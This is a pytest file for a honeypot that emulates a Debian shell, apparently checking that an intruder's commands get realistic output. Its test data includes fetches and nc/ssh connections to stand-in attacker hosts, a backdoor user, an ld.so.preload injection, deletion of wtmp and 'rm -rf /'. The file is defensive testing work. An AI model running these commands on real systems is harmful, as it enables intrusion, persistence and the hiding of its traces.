# SPDX-License-Identifier: MIT
"""Commands about accounts, processes, network and software, as an intruder uses them."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from tests.decnet_decoys.decky_host import Player

MakePlayer = Callable[..., Player]


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("id -u; id -g; id -un; id -gn", "0\n0\nroot\nroot\n"),
        ("id deploy", "uid=1000(deploy) gid=1000(deploy) groups=1000(deploy),27(sudo),33(www-data)\n"),
        ("whoami; logname; users; groups", "root\nroot\nroot\nroot\n"),
        ("su deploy; whoami; pwd", ""),  # the rest waits for the end of that shell
        ("su -c 'whoami; pwd' deploy; whoami; pwd", "deploy\n/root\nroot\n/root\n"),
        ("useradd mallory; grep mallory /etc/passwd", "mallory:x:1001:1001::/home/mallory:/bin/sh\n"),
        ("useradd mallory; id mallory", "uid=1001(mallory) gid=1001(mallory) groups=1001(mallory)\n"),
        ("echo 'deploy:x' | chpasswd; echo $?", "0\n"),
        ("sudo id -u; sudo -u deploy true; echo $?", "0\n0\n"),
        ("(su deploy; whoami); whoami", "deploy\nroot\n"),
        ("hostname; hostname -I; dnsdomainname", "web-01\n10.20.0.10 \ninternal\n"),
        ("hostname db9; hostname; uname -n; cat /proc/sys/kernel/hostname /etc/hostname; hostname web-01; hostname",
         "db9\ndb9\ndb9\nweb-01\nweb-01\n"),
        ("(sleep 50 & pgrep sleep | wc -l; kill $!; pgrep sleep | wc -l)", "1\n0\n"),
        ("uname -sr; arch; nproc", "Linux 6.1.0-25-amd64\nx86_64\n2\n"),
        ("sysctl kernel.hostname", "kernel.hostname = web-01\n"),
        ("kill 1; echo $?; pgrep -f nosuch; echo $?", "0\n1\n"),
        ("systemctl is-active nginx; systemctl is-active nosuch", "active\ninactive\n"),
        ("systemctl stop nginx; echo $?", "0\n"),
        ("crontab -l; echo $?; echo '* * * * * x' | crontab -; crontab -l; crontab -r; crontab -l; echo $?",
         "1\n* * * * * x\n1\n"),
        ("apt install -y nmap; echo $?",
         "Reading package lists... Done\nBuilding dependency tree... Done\nReading state information... Done\n100\n"),
        ("echo 'scale=3; 22/7; 2^10; sqrt(2)' | bc; echo 'obase=16; 255; x=4; x*x' | bc; bc <<< 'ibase=16; FF'",
         "3.142\n1024\n1.414\nFF\n10\n255\n"),
        ("echo '1.5+2.25; 3*1.255; -7/2; 7%3; (1+2)*3' | bc; echo 'scale=4; 10/3; -0.25; 5<6; 4*a(1)' | bc -l",
         "3.75\n3.765\n-3\n1\n9\n3.3333\n-.25\n1\n3.1412\n"),
        ("printf '[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/x.service; systemctl enable x; "
         "readlink /etc/systemd/system/multi-user.target.wants/x*;"
         "systemctl disable x; ls /etc/systemd/system/multi-user.target.wants/ | grep -c '^x'",
         "/etc/systemd/system/x.service\n0\n"),
        ("systemctl list-units --no-legend | grep -c UNIT; TERM=xterm tput cup 3 4 | od -An -tx1",
         "0\n 1b 5b 34 3b 35 48\n"),
        ("stat -c '%a %G %n' /var/log/btmp /var/mail /etc/ssl/private /etc/machine-id; readlink /var/spool/mail",
         "660 utmp /var/log/btmp\n2775 mail /var/mail\n700 root /etc/ssl/private\n444 root /etc/machine-id\n../mail\n"),
        ("getcap -r /usr /bin/ls; (cd /usr; getcap -r bin); "
         "timeout -s KILL 1 sleep 3; echo $?; timeout -k 1 1 sleep 3; echo $?",
         "/usr/bin/ping cap_net_raw=ep\nbin/ping cap_net_raw=ep\n137\n124\n"),
        (r"printf '%s\n' ./a ab 'A b' a-c /b libc.so.6 libcom_err.so.2 libcrypto.so.3 _x | sort | tr '\n' ' ';"
         r"printf '2 b\n2 B\n10 a\n' | sort -n | tr '\n' ' '; printf 'a\nB\n_c\n' | LC_ALL=C sort | tr '\n' ' ';"
         "cd /tmp; touch _a B a; echo ?*; LC_ALL=C; echo ?*",
         "./a ab A b a-c /b libcom_err.so.2 libcrypto.so.3 libc.so.6 _x 2 b 2 B 10 a B _c a _a a B\nB _a a\n"),
        ("TZ=Asia/Tokyo date -d @0 '+%H:%M %z %Z'; TZ=EST5EDT date -u -d @0 +%H; TZ=JST-9 date -d @0 +%R%:z; "
         "TZ=../../etc/passwd date -d @0 +%R", "09:00 +0900 JST\n00\n09:00+09:00\n00:00\n"),
        ("gpasswd -d nobody sudo; echo $?; gpasswd -a nobody sudo; id -Gn nobody; gpasswd -d nobody sudo; id -Gn nobody"
         "; gpasswd -a nosuch sudo; echo $?; groupmod -n web users; getent group web users",
         "Removing user nobody from group sudo\n3\nAdding user nobody to group sudo\nnogroup sudo\n"
         "Removing user nobody from group sudo\nnogroup\n3\nweb:x:100:\n"),
        ("chage -l root | cut -d: -f2 | tail -n 4; chage -M 90 -W 5 daemon; chage -l daemon | tail -n 2 | cut -d: -f2",
         " never\n 0\n 99999\n 7\n 90\n 5\n"),
        ("runuser -u nobody id -un; runuser -l daemon -c 'id -un'; runuser -u nosuch id; echo $?; whoami",
         "nobody\ndaemon\n1\nroot\n"),
        ("capsh --decode=0000000000003000; capsh --print | head -n 1; capsh --decode=zz; echo $?",
         "0x0000000000003000=cap_net_admin,cap_net_raw\nCurrent: =ep\n1\n"),
        ("which vipw gpasswd; vipw; echo $?", "/usr/sbin/vipw\n/usr/bin/gpasswd\n0\n"),
        ("capsh --decode=x; echo $?; capsh --decode=0x3000", "1\n0x0000000000003000=cap_net_admin,cap_net_raw\n"),
        ("echo /tmp/l.so > /etc/ld.so.preload; (id -u; echo no) 2>&1; "
         "(echo x > /tmp/l.so; true; id -u) 2>&1; "
         "rm /etc/ld.so.preload 2> /dev/null; export LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6; id -u 2>&1",
         "ERROR: ld.so: object '/tmp/l.so' from /etc/ld.so.preload cannot be preloaded "
         "(cannot open shared object file): ignored.\n0\nno\n"
         "ERROR: ld.so: object '/tmp/l.so' from /etc/ld.so.preload cannot be preloaded "
         "(file too short): ignored.\n0\n0\n"),
        ("find /usr/bin /usr/sbin -perm -2000 | sort | xargs stat -c '%a %G %n' | head -n 3; "
         "ldd /bin/ls /bin/cat | awk '{print $1}' | tr '\\n' ' '",
         "2755 shadow /usr/bin/chage\n2755 crontab /usr/bin/crontab\n2755 shadow /usr/bin/expiry\n"
         "/bin/ls: linux-vdso.so.1 libselinux.so.1 libc.so.6 libpcre2-8.so.0 /lib64/ld-linux-x86-64.so.2 "
         "/bin/cat: linux-vdso.so.1 libc.so.6 /lib64/ld-linux-x86-64.so.2 "),
        ("sed -i 's/^#MaxAuthTries.*/MaxAuthTries 3/' /etc/ssh/sshd_config; grep -n -m 2 'MaxAuthTries\\|^#Port' "
         "/etc/ssh/sshd_config; rm /var/log/wtmp; last; echo $?; rsync -a /nosuch /tmp; echo $?",
         "14:#Port 22\n35:MaxAuthTries 3\n1\n23\n"),
        ("env | grep -c HOSTNAME; echo $HOSTNAME; bash -c 'echo $HOSTNAME'", "0\nweb-01\nweb-01\n"),
        ("wget -qO /tmp/a http://127.0.0.1:1/a; echo $?; stat -c %s /tmp/a; rm /tmp/a", "4\n0\n"),
        ("stat -c '%a %n' /tmp /var/tmp /dev/shm; which -a sh",
         "1777 /tmp\n1777 /var/tmp\n1777 /dev/shm\n/usr/bin/sh\n/bin/sh\n"),
        ("cut -d' ' -f5 /proc/self/mountinfo > /tmp/a; cut -d' ' -f2 /proc/mounts | cmp - /tmp/a && echo same",
         "same\n"),
        ("ulimit -c; umask; type cd; command -v ls", "0\n0022\ncd is a shell builtin\n/usr/bin/ls\n"),
        ("mktemp; ls /tmp/tmp.* | wc -l", None),
    ],
)  # fmt: skip
def test_a_command_of_root_prints(run: Player, line: str, shown: str | None) -> None:
    played = run(line)
    if shown is None:
        assert played.text.splitlines()[-1] == "1"
    else:
        assert played.text == shown


def test_a_shell_at_a_terminal_tells_that_jobs_have_ended(run: Player) -> None:
    begun = run("sleep 50 & true &").errors + run("").errors + run("kill %1").errors
    pid = run.shell.pid + 7
    assert begun == (
        f"[1] {pid}\n[2] {pid + 1}\n[2]+  Done                    true\n[1]+  Terminated              sleep 50\n"
    )
    assert run("false &").errors == f"[1] {pid + 2}\n"


@pytest.mark.parametrize(
    ("line", "complaint", "status"),
    [
        ("id nosuch", "id: \u2018nosuch\u2019: no such user\n", 1),
        ("passwd nosuch", "passwd: user 'nosuch' does not exist\n", 1),
        ("useradd deploy", "useradd: user 'deploy' already exists\n", 9),
        ("chown nosuch /tmp", "chown: invalid user: \u2018nosuch\u2019\n", 1),
        ("chmod 644", "chmod: missing operand after \u2018644\u2019\nTry 'chmod --help' for more information.\n", 1),
        ("kill 99999", "-bash: kill: (99999) - No such process\n", 1),
        ("systemctl restart nosuch", "Failed to restart nosuch.service: Unit nosuch.service not found.\n", 5),
        ("systemctl status nosuch", "Unit nosuch.service could not be found.\n", 4),
        ("docker ps", "-bash: docker: command not found\n", 127),
        ("cd /nosuch", "-bash: cd: /nosuch: No such file or directory\n", 1),
        ("rm -rf /", "rm: it is dangerous to operate recursively on '/'\n"
         "rm: use --no-preserve-root to override this failsafe\n", 1),
        ("/bin/cat /", "/bin/cat: /: Is a directory\n", 1),
        ("/bin/ls --nosuch", "/bin/ls: unrecognized option '--nosuch'\n"
         "Try '/bin/ls --help' for more information.\n", 2),
        ("/usr/bin/wget", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\n"
         "Try `wget --help' for more options.\n", 1),
        ("hostname a_b", "hostname: the specified hostname is invalid\n", 1),
        ("nc -z 127.0.0.1 1", "", 1),
        ("nc 127.0.0.1 1", "(UNKNOWN) [127.0.0.1] 1 (tcpmux) : Connection refused\n", 1),
        ("cat /", "cat: /: Is a directory\n", 1),
        ("mkdir /etc", "mkdir: cannot create directory \u2018/etc\u2019: File exists\n", 1),
        ("touch /nosuch/x", "touch: cannot touch '/nosuch/x': No such file or directory\n", 1),
        ("mv /nosuch /tmp", "mv: cannot stat '/nosuch': No such file or directory\n", 1),
        ("cp /etc /tmp", "cp: -r not specified; omitting directory '/etc'\n", 1),
        ("ln -s a /etc/passwd", "ln: failed to create symbolic link '/etc/passwd': File exists\n", 1),
        ("rmdir /etc", "rmdir: failed to remove '/etc': Directory not empty\n", 1),
        ("stat /nosuch", "stat: cannot statx '/nosuch': No such file or directory\n", 1),
        ("find /nosuch", "find: \u2018/nosuch\u2019: No such file or directory\n", 1),
        ("echo x > /proc/x", "-bash: /proc/x: No such file or directory\n", 1),
        ("echo x > /sys/x", "-bash: /sys/x: Permission denied\n", 1),
        ("echo '1 +' | bc", "(standard_in) 2: syntax error\n", 0),
        ("TERM=xterm tput nosuch", "tput: unknown terminfo capability 'nosuch'\n", 4),
        ("busybox nosuch", "nosuch: applet not found\n", 127),
        ("let 1 +", '-bash: let: +: syntax error: operand expected (error token is "+")\n', 1),
        ("[ a -eq 1 ]", "-bash: [: a: integer expression expected\n", 2),
    ],
)  # fmt: skip
def test_a_refusal_is_in_the_programs_words(run: Player, line: str, complaint: str, status: int) -> None:
    played = run(line)
    assert (played.errors, played.text, played.status) == (complaint, "", status)


@pytest.mark.parametrize(
    ("line", "complaint"),
    [
        ("useradd x", "useradd: Permission denied.\nuseradd: cannot lock /etc/passwd; try again later.\n"),
        ("passwd root", "passwd: You may not view or modify password information for root.\n"),
        ("dmesg", "dmesg: read kernel buffer failed: Operation not permitted\n"),
        ("reboot", "reboot: must be superuser.\n"),
        (
            "iptables -L",
            "iptables v1.8.9 (nf_tables): Could not fetch rule set generation id: "
            "Permission denied (you must be root)\n",
        ),
        ("systemctl stop nginx", "Failed to stop nginx.service: Access denied\n"),
        ("chmod 777 /etc/passwd", "chmod: changing permissions of '/etc/passwd': Operation not permitted\n"),
        ("rm /etc/passwd", "rm: cannot remove '/etc/passwd': Permission denied\n"),
    ],
)
def test_what_only_root_may_is_refused_to_others(player: MakePlayer, line: str, complaint: str) -> None:
    played = player("debian-web", "deploy")(f"PATH=$PATH:/usr/sbin; {line}")
    assert played.errors == complaint
    assert played.status != 0


def test_only_root_has_the_folders_of_sbin_in_the_path(player: MakePlayer) -> None:
    assert player("debian-web", "deploy")("useradd x").errors.endswith("useradd: command not found\n")
    assert player("debian-web", "deploy")("sudo -u root -n true; echo $PATH").text == (
        "/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\n"
    )
    assert player("debian-web")("useradd x").errors == ""


def test_su_wants_the_password_of_the_other(player: MakePlayer) -> None:
    run = player("debian-web", "deploy", b"wrong")
    refused = run("su")
    assert (refused.errors, refused.status, refused.pauses[-1]) == ("su: Authentication failure\n", 1, 1.5)
    assert run("whoami").text == "deploy\n"
    right = player("debian-web", "deploy", b"admin123")
    right("su")
    assert right("whoami").text == "root\n"


def test_sudo_su_stays_root_and_sudo_of_a_command_does_not(player: MakePlayer) -> None:
    assert player("debian-web", "deploy", b"deploy")("sudo whoami; whoami").text == "root\ndeploy\n"
    for begins in ("sudo su -", "sudo -i"):
        run = player("debian-web", "deploy", b"deploy")
        assert run(f"{begins}; echo later").text == ""
        assert run("whoami; pwd; exit").text == "root\n/root\nlater\n"
    assert player("debian-web", "deploy", b"deploy")("sudo bash -c 'id -un'; whoami").text == "root\ndeploy\n"


def test_sudo_with_a_password_runs_as_whom_it_was_told(player: MakePlayer) -> None:
    assert player("debian-web", "deploy", b"deploy")("sudo -u nobody id -un; whoami").text == "nobody\ndeploy\n"
    assert player("debian-web", "deploy", b"deploy")("sudo -u www-data sh -c 'id -u'").text == "33\n"
    refused = player("debian-web", "deploy", b"deploy")("sudo -u nosuch id")
    assert refused.status == 1
    assert "unknown user nosuch" in refused.errors


def test_sudo_of_who_gave_the_password_runs_programs_only(player: MakePlayer) -> None:
    for line in ("sudo cd /", "f() { echo f; }; sudo f", "sudo nosuch"):
        played = player("debian-web", "deploy", b"deploy")(line)
        assert (played.text, played.status) == ("", 1)
        assert played.errors.startswith(f"sudo: {line.split('sudo ')[1].split()[0]}: command not found\n")


@pytest.mark.parametrize(
    ("line", "action", "detail"),
    [
        ("wget http://198.51.100.9/x", "fetch", {"program": "wget", "url": "http://198.51.100.9/x"}),
        ("curl -s -o x evil.example/x", "fetch", {"program": "curl", "url": "evil.example/x"}),
        ("ping -c 1 198.51.100.9", "ping", {"host": "198.51.100.9"}),
        ("nc 198.51.100.9 4444", "connect", {"program": "nc", "target": "198.51.100.9 4444"}),
        ("ssh root@198.51.100.9", "connect", {"program": "ssh", "target": "root@198.51.100.9"}),
        ("dig evil.example", "resolve", {"program": "dig", "name": "evil.example"}),
        ("apt install nmap", "install", {"program": "apt", "packages": "nmap"}),
    ],
)
def test_what_is_wanted_of_the_network_is_recorded_and_fails(
    run: Player, line: str, action: str, detail: dict[str, str]
) -> None:
    played = run(line)
    assert [(one.action, one.detail) for one in played.requested] == [(action, detail)]
    assert played.status != 0
    assert sum(played.pauses) > 0


@pytest.mark.parametrize(
    ("line", "shown", "status"),
    [
        ("curl http://evil.example/", "curl: (6) Could not resolve host: evil.example\n", 6),
        ("curl 198.51.100.9", "curl: (7) Failed to connect to 198.51.100.9 port 80 after 0 ms: Couldn't connect to "
         "server\n", 7),
        ("wget -q http://evil.example/", "", 4),
        ("ssh 198.51.100.9", "ssh: connect to host 198.51.100.9 port 22: Connection timed out\r\n", 255),
        ("ping evil.example", "ping: evil.example: Temporary failure in name resolution\n", 2),
        ("wget", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1),
    ],
)  # fmt: skip
def test_a_network_without_a_way_out_fails_as_it_does(run: Player, line: str, shown: str, status: int) -> None:
    played = run(line)
    assert (played.errors, played.status) == (shown, status)


def test_wget_tells_what_it_tries(run: Player) -> None:
    lines = run("wget http://evil.example/x").errors.splitlines()
    assert lines[0] == "--2026-11-18 11:06:40--  http://evil.example/x"
    assert lines[1:] == [
        "Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.",
        "wget: unable to resolve host address \u2018evil.example\u2019",
    ]


def test_a_command_in_the_list_of_processes_is_the_one_that_runs(run: Player) -> None:
    assert run("ps aux | tail -1").text.endswith(" ps aux\n")
    assert run("ps").text.splitlines()[0] == "    PID TTY          TIME CMD"
    assert "sshd: root [priv]" in run("ps -ef").text


def test_uudecode_brings_a_file(run: Player) -> None:
    done = run("uudecode <<'E'\nbegin 755 /tmp/u\n#:&D*\n`\nend\nE\ncat /tmp/u")
    assert (done.text, [one.data for one in done.captured]) == ("hi\n", [b"hi\n"])


@pytest.mark.parametrize(
    ("line", "text", "errors"),
    [
        ("busybox cat /nosuch; busybox ls /nosuch; echo $?", "1\n",
         "cat: can't open '/nosuch': No such file or directory\n"
         "ls: /nosuch: No such file or directory\n"),
        ("busybox rm /nosuch; busybox cp /nosuch /tmp; busybox mv /nosuch /tmp", "",
         "rm: can't remove '/nosuch': No such file or directory\n"
         "cp: can't stat '/nosuch': No such file or directory\n"
         "mv: can't rename '/nosuch': No such file or directory\n"),
        ("busybox tar tf /nosuch; echo $?; busybox crontab -l; busybox passwd; echo $?", "1\n127\n", "tar: can't open "
         "'/nosuch': No such file or directory\ncrontab: applet not found\npasswd: applet not found\n"),
        ("busybox --list | head -3; busybox --list | wc -l; busybox echo a; busybox MIRAI", "[\n[[\nacpid\n258\na\n",
         "MIRAI: applet not found\n"),
        ("gunzip /etc/hostname; echo $?; echo x | gzip | gunzip -t; echo $?", "2\n0\n",
         "gzip: /etc/hostname: unknown suffix -- ignored\n"),
        ("cd /tmp; echo a > g; gzip -k g; gzip g; echo $?; gzip -t g.gz; echo *", "2\ng g.gz\n",
         "gzip: g.gz already exists;\tnot overwritten\n"),
        ("tar cvf - /etc/hostname 2>/dev/null | tar tf -; cd /tmp; tar cf a.tar -C /etc hosts; "
         "tar xf a.tar no; echo $?; tar cf b.tar -C /etc ssh; tar tf b.tar ssh/ | head -1", "etc/hostname\n2\nssh/\n",
         "tar: no: Not found in archive\n"
         "tar: Exiting with failure status due to previous errors\n"),
        ("tar -caf /tmp/x.tgz -C /etc hostname; file /tmp/x.tgz | cut -d, -f1; file -b /bin/su | cut -c1-10",
         "/tmp/x.tgz: gzip compressed data\nsetuid ELF\n", ""),
        ("chsh -s /bin/dash daemon; grep -c ^daemon:.*dash$ /etc/passwd; xargs -t echo <<< 'x y'", "1\nx y\n",
         "echo x y\n"),
        ("adduser daemon sudo > /dev/null; deluser daemon sudo; id -nG daemon; deluser daemon sudo; echo $?",
         "Removing user `daemon' from group `sudo' ...\nDone.\ndaemon\n6\n",
         "deluser: The user `daemon' is not a member of group `sudo'.\n"),
        ("adduser --system --no-create-home --group svcx; grep ^svcx /etc/passwd | cut -d: -f1,6,7; deluser svcx",
         "Adding system user `svcx' (UID 102) ...\nAdding new group `svcx' (GID 102) ...\n"
         "Adding new user `svcx' (UID 102) with group `svcx' ...\nNot creating `/nonexistent'.\n"
         "svcx:/nonexistent:/usr/sbin/nologin\nRemoving crontab ...\nRemoving user `svcx' ...\nDone.\n", ""),
        ("addgroup devx; delgroup devx; addgroup sudo; delgroup nosuch; adduser root; deluser nosuch; delgroup root; "
         "echo $?",
         "Adding group `devx' (GID 1001) ...\nDone.\nRemoving group `devx' ...\nDone.\n7\n",
         "addgroup: The group `sudo' already exists.\ndelgroup: The group `nosuch' does not exist.\n"
         "adduser: The user `root' already exists.\ndeluser: The user `nosuch' does not exist.\n"
         "delgroup: `root' still has `root' as their primary group!\n"),
        ("{ more /etc/hostname; less /etc/hostname; more /nosuch; } | wc -l; readlink -e /nosuch; echo $?; "
         "getconf PATH", "5\n1\n/bin:/usr/bin\n",
         "more: cannot open /nosuch: No such file or directory\n"),
        ("apt list bash 2>/dev/null | wc -l; visudo -c; visudo -cf /nosuch; perl -e 'print \"x\\n\" x 2'",
         "2\n/etc/sudoers: parsed OK\n/etc/sudoers.d/README: parsed OK\nx\nx\n",
         "visudo: unable to open /nosuch: No such file or directory\n"),
    ],
)  # fmt: skip
def test_applets_archives_and_accounts_answer_as_debians_do(
    player: MakePlayer, line: str, text: str, errors: str
) -> None:
    played = player("debian-web", "root")(line)
    assert (played.text, played.errors.removeprefix("tar: Removing leading `/' from member names\n")) == (text, errors)


# The complaints are GNU's, but for the first: its directives are of ASCII, too.
LAYOUTS = {
    "%\u0663f": "has unknown %\u0663 directive",
    "% %%f": "has unknown %% directive",
    "%.%%f": "has unknown %% directive",
    "%%%": "ends in %",
    "%%f": "has no % directive",
    "": "has no % directive",
    "%f%%%g": "has too many % directives",
}


@pytest.mark.parametrize(("layout", "complaint"), LAYOUTS.items())
def test_seq_refuses_what_is_no_layout_of_one_number(run: Player, layout: str, complaint: str) -> None:
    played = run(f"seq -f '{layout}' 1; echo $?")
    assert played.text == "1\n"
    assert played.errors.startswith(f"seq: format \u2018{layout}\u2019 {complaint}\n")


def test_seq_lays_out_numbers(run: Player) -> None:
    assert run("seq -f '%%%03g%%' 8 9").text == "%008%\n%009%\n"


def test_processes_that_subshells_leave_have_numbers_of_their_own(run: Player) -> None:
    assert run("(sleep 1000 &); (sleep 1001 &); pgrep sleep | sort -u | wc -l").text == "2\n"
    assert run("kill $(pgrep sleep); pgrep sleep | wc -l").text == "0\n"


def test_kill_names_no_signal_that_there_is_not(run: Player) -> None:
    played = run("kill -l 9 x 137 999 65 sigterm; echo $?; /bin/kill -l x")
    assert played.text == "KILL\nKILL\n15\n1\n"
    complaints = [f"-bash: kill: {one}: invalid signal specification\n" for one in ("x", "999", "65")]
    assert played.errors == "".join(complaints) + "/bin/kill: unknown signal name x\n"


def test_lines_of_the_history_are_counted_back_from_its_end(run: Player) -> None:
    run.shell.history.lines[:] = ["a", "b", "c"]
    assert run("history -d -1; history -d -2; history").text == "    1  b\n"
    assert run("history -d -2").errors == "-bash: history: -2: history position out of range\n"


def test_scp_takes_an_empty_file(run: Player) -> None:
    assert run(r"printf 'C0600 0 x\n\0' | scp -t /tmp; stat -c '%a %s' /tmp/x").text == "\0\0\x00600 0\n"


def test_only_names_without_folders_are_looked_up_where_the_shell_remembers_them(run: Player) -> None:
    assert run("cd /tmp; uname; bin/uname").errors == "-bash: bin/uname: No such file or directory\n"
    assert run("hash -t uname; hash -t bin/uname name").text == "/usr/bin/uname\n"


def test_other_programs_do_not_know_what_the_shell_remembers(run: Player) -> None:
    assert run("uname; mv /usr/bin/uname /usr/local/bin/; env uname; uname").text == "Linux\nLinux\n"


def test_killall_takes_no_name_for_a_signal(run: Player) -> None:
    assert run("sleep 1000 & killall -q xILL sleep; pgrep sleep | wc -l").text.endswith("0\n")
